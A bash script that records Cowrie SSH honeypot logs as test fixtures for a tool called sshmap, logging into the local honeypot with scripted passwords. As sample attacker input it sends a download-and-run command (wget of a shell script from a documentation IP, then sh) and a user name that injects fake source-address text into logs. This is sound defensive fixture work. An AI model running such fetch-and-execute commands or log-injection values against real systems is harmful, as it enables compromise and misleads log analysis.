#!/usr/bin/env bash
# Records a real Cowrie honeypot JSON log (cowrie.json) for sshmap's test fixtures.
#
# Installs Cowrie from PyPI into a private virtual environment (with Debian's
# python3), runs it as a throwaway unprivileged user (Cowrie refuses root) on
# 127.0.0.1 and ::1, drives it with the real OpenSSH client, and writes what it
# did to ground-truth.jsonl. The same shape as scripts/record-sshd-fixtures.sh.
#
# Usage (Debian, as root):   scripts/record-cowrie-fixtures.sh [OUTDIR]
#   OUTDIR defaults to tests/fixtures/cowrie. PORT (default 2224) and
#   COWRIE_VERSION (default 3.1.4) may be set.
set -euo pipefail

export TZ=UTC LC_ALL=C.UTF-8
OUT=$(realpath -m "${1:-tests/fixtures/cowrie}")
PORT=${PORT:-2224}
COWRIE_VERSION=${COWRIE_VERSION:-3.1.4}
CUSER=sshmapcw            # runs the honeypot

die() { echo "record-cowrie-fixtures: $*" >&2; exit 1; }
[ "$(id -u)" = 0 ] || die "must run as root (it installs packages and adds a user)"
[ -r /etc/debian_version ] || die "needs Debian"

need=()
for p in python3-venv openssh-client netcat-openbsd jq; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' || need+=("$p")
done
if [ ${#need[@]} -gt 0 ]; then
    apt-get -o DPkg::Lock::Timeout=300 update -qq
    DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=300 install -y -qq --no-install-recommends "${need[@]}"
fi
ip -6 addr show lo | grep -q '::1' || die "no ::1 on lo"

WORK=$(mktemp -d /tmp/sshmap-cowrie.XXXXXX)
chmod 755 "$WORK"
COWRIE_PID= USER_CREATED=
cleanup() {
    set +e
    if [ -n "$COWRIE_PID" ]; then kill "$COWRIE_PID" 2>/dev/null; wait "$COWRIE_PID" 2>/dev/null; fi
    [ -n "$USER_CREATED" ] && userdel "$CUSER" 2>/dev/null
    rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# --- Cowrie ---------------------------------------------------------------------
/usr/bin/python3 -m venv "$WORK/venv"
"$WORK/venv/bin/pip" install -q "cowrie==$COWRIE_VERSION"
id "$CUSER" >/dev/null 2>&1 && die "user $CUSER already exists; remove it or pick another name"
useradd -M -s /bin/sh "$CUSER"
USER_CREATED=1
mkdir -p "$WORK/cowrie/etc" "$WORK/cowrie/var/log/cowrie" "$WORK/cowrie/var/lib/cowrie/tty" \
    "$WORK/cowrie/var/lib/cowrie/downloads" "$WORK/cowrie/var/run"
cat > "$WORK/cowrie/etc/cowrie.cfg" <<EOF
[honeypot]
hostname = svr04
[ssh]
enabled = true
listen_endpoints = tcp:$PORT:interface=127.0.0.1 tcp6:$PORT:interface=\:\:1
[telnet]
enabled = false
[output_jsonlog]
enabled = true
logfile = \${honeypot:log_path}/cowrie.json
epoch_timestamp = false
EOF
chown -R "$CUSER" "$WORK/cowrie"
# setpriv execs (no forked shell in between), so COWRIE_PID is twistd itself.
(cd "$WORK/cowrie" && exec env COWRIE_STDOUT=yes HOME="$WORK/cowrie" PATH="$WORK/venv/bin:$PATH" \
    setpriv --reuid="$CUSER" --regid="$CUSER" --init-groups "$WORK/venv/bin/cowrie" start) \
    > "$WORK/cowrie.out" 2>&1 &
COWRIE_PID=$!
for _ in $(seq 150); do
    [ "$(ss -Hltn "sport = :$PORT" | wc -l)" -ge 2 ] && break
    kill -0 "$COWRIE_PID" 2>/dev/null || { cat "$WORK/cowrie.out" >&2; die "cowrie exited"; }
    sleep 0.2
done
[ "$(ss -Hltn "sport = :$PORT" | wc -l)" -eq 2 ] || die "cowrie is not listening on 127.0.0.1 and ::1 port $PORT"
sleep 0.5

# --- the client side -----------------------------------------------------------
cat > "$WORK/askpass" <<'EOF'
#!/bin/sh
# One password per prompt, from FIXTURE_PWS (space-separated), in order.
n=$(cat "$FIXTURE_N" 2>/dev/null || echo 0)
echo $((n + 1)) > "$FIXTURE_N"
set -- $FIXTURE_PWS
shift "$n" 2>/dev/null || true
printf '%s\n' "${1:-none}"
EOF
chmod 755 "$WORK/askpass"
GT="$WORK/ground-truth.jsonl"
: > "$GT"
STEP=0
record() {
    STEP=$((STEP + 1))
    jq -cn --argjson step "$STEP" --arg at "$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)" \
        --arg addr "$1" --arg user "$2" --arg action "$3" --arg expect "$4" --argjson attempts "$5" \
        '{step:$step, at:$at, addr:$addr, user:$user, action:$action, expect:$expect, attempts:$attempts}' >> "$GT"
}

# login ADDR USER "PW1 PW2 …" COMMAND: one connection, a password per prompt.
login() {
    local addr=$1 user=$2 pws=$3 cmd=$4 q=\"
    case $user in *\"*) q=\' ;; esac
    {
        echo "Host target"
        echo "  HostName $addr"
        echo "  Port $PORT"
        echo "  User $q$user$q"
        echo "  StrictHostKeyChecking no"
        echo "  UserKnownHostsFile /dev/null"
        echo "  GlobalKnownHostsFile /dev/null"
        echo "  IdentityAgent none"
        echo "  PubkeyAuthentication no"
        echo "  PreferredAuthentications password"
        echo "  NumberOfPasswordPrompts $(echo "$pws" | wc -w)"
        echo "  ConnectTimeout 10"
        echo "  LogLevel ERROR"
    } > "$WORK/ssh_config"
    rm -f "$WORK/n"
    FIXTURE_PWS=$pws FIXTURE_N="$WORK/n" SSH_ASKPASS="$WORK/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=none \
        timeout 60 ssh -F "$WORK/ssh_config" target "$cmd" </dev/null >/dev/null 2>&1 || true
    sleep 0.7
}

# Cowrie's default userdb: root is refused with `root`, `123456` and any
# password containing "honeypot"; every other name and password gets in.
for addr in 127.0.0.1 ::1; do
    record "$addr" root "password root for root (refused by the userdb)" "cowrie.login.failed" 1
    login "$addr" root "root" true
    record "$addr" root "passwords 123456 then toor for root, then a command" "cowrie.login.failed, cowrie.login.success, cowrie.command.input" 1
    login "$addr" root "123456 toor" "uname -a"
    record "$addr" admin "admin/admin, then a download" "cowrie.login.success, cowrie.command.input" 0
    login "$addr" admin "admin" "cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh"
    record "$addr" "x from 203.0.113.7 port 22" "hostile user name (any name gets in)" "cowrie.login.success, cowrie.command.input" 0
    login "$addr" "x from 203.0.113.7 port 22" "secret" true
    record "$addr" root "password MyHoneypot for root (refused)" "cowrie.login.failed" 1
    login "$addr" root "MyHoneypot" true
    record "$addr" "" "TCP connect and close without a banner" "cowrie.session.connect, cowrie.session.closed" 0
    timeout 10 nc -z "$addr" "$PORT" >/dev/null 2>&1 || true
    sleep 0.7
done

# --- stop, collect -------------------------------------------------------------
sleep 1
kill "$COWRIE_PID" 2>/dev/null; wait "$COWRIE_PID" 2>/dev/null || true
COWRIE_PID=
sleep 0.5
mkdir -p "$OUT"
cp "$WORK/cowrie/var/log/cowrie/cowrie.json" "$GT" "$OUT/"
{
    echo "recorded_at=$(date -u +%Y-%m-%dT%H:%M:%SZ)"
    echo "debian=$(cat /etc/debian_version)"
    echo "cowrie=$("$WORK/venv/bin/pip" show cowrie | sed -n 's/^Version: //p')"
    echo "python=$(/usr/bin/python3 --version)"
    echo "openssh_client=$(dpkg-query -W -f='${Version}' openssh-client)"
} > "$OUT/versions.txt"
echo "recorded $(wc -l < "$OUT/cowrie.json") records, $STEP client actions into $OUT" >&2
